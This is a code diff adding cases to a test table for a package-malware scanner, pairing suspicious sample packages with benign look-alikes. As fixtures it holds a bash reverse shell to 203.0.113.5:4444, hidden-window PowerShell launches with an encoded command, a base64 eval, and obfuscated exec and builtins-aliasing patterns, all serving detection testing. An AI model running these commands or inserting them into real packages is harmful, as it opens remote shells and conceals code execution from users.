@@ -48,6 +48,11 @@ CASES = [
     ("STATIC-PY-DYNAMIC-BUILTINS",
      (P, "pkg", sdist("pkg", module("f = getattr(__builtins__, 'ex' + 'ec')"))),
      (P, "pkg", sdist("pkg", module("f = getattr(__builtins__, 'open')")))),
+    ("STATIC-PY-DYNAMIC-BUILTINS",  # pyobfuscate: every alias bound into __builtins__ under a computed name
+     (P, "pkg", sdist("pkg", setup_py("aliases = (lambda m: [(lambda k, v: setattr(__builtins__, k, v))(k, v) for k, v in m.items()])"))),
+     # gettext's install(): a literal name, and `import builtins` for computed ones (IPython's builtin_trap)
+     (P, "pkg", sdist("pkg", module("import builtins, gettext\nsetattr(__builtins__, '_', gettext.gettext)\n"
+                                    "for key, value in extra.items():\n    setattr(builtins, key, value)\n")))),
     ("STATIC-JS-DECODE-EXEC",
      (N, "jspkg", npm("jspkg", {"index.js": 'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())'})),
      (N, "jspkg", npm("jspkg", {"index.js": 'const s = Buffer.from(x, "base64").toString();\nJSON.parse(s);'}))),
@@ -63,6 +68,9 @@ CASES = [
     ("STATIC-POWERSHELL-HIDDEN",
      (P, "pkg", sdist("pkg", setup_py("import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A')"))),
      (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.run(["powershell", "-Command", "Get-ChildItem"])')))),
+    ("STATIC-POWERSHELL-HIDDEN",  # the flags as argv items
+     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(cmd=DEFAULT):\n    return subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", cmd])'))),
+     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(cmd):\n    return subprocess.run(["powershell", "-NoProfile", "-NonInteractive", "-Command", cmd])')))),
     ("STATIC-REVERSE-SHELL",
      (P, "pkg", sdist("pkg", module('import os\nos.system("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")'))),
      (P, "pkg", sdist("pkg", module("import os\nos.system(\"bash -c 'echo hi'\")")))),
